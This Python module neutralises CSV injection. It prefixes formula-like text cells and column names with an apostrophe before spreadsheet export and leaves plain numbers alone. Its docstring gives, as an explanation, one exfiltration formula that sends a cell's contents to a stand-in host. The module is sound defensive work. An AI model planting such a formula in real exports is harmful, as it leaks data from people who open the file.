"""Tables bound for spreadsheets: no cell a spreadsheet would run as a formula.

Excel, LibreOffice and Google Sheets evaluate a CSV cell that starts with ``=``, ``+``,
``-`` or ``@`` (and, in some versions, tab or carriage return) as a formula: a feature
named ``=HYPERLINK("http://evil.example/?"&A1, "Open")`` would run when an auditor opens
the export ("CSV injection", OWASP).  As OWASP recommends, such *text* cells get a leading
apostrophe, which spreadsheets show as text and hide.  Numbers stay numbers: a numeric
column's ``-3.5`` is not text, and a text cell that is nothing but a plain decimal
number (``-3.5``, ``+12``, ``-1e5``) is read as that number, never as a formula, so it
is left as written.  Column names are cells too.

Only spreadsheet formats are neutralised (every CSV the tool writes: the export's
tables, the portfolio table); the GeoPackage and GeoJSON keep the true values.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "formula_safe", "neutralise_formulas"]

#: How a cell starts when a spreadsheet may run it as a formula (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def formula_safe(value: Any) -> Any:
    """``value``, or for text a spreadsheet would run as a formula, ``"'" + value``."""
    if (isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
            and not _PLAIN_NUMBER.fullmatch(value)):
        return "'" + value
    return value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are :func:`formula_safe`."""
    safe = frame.map(formula_safe) if not frame.empty else frame.copy()
    safe.columns = [formula_safe(str(c)) if isinstance(c, str) else c for c in frame.columns]
    return safe
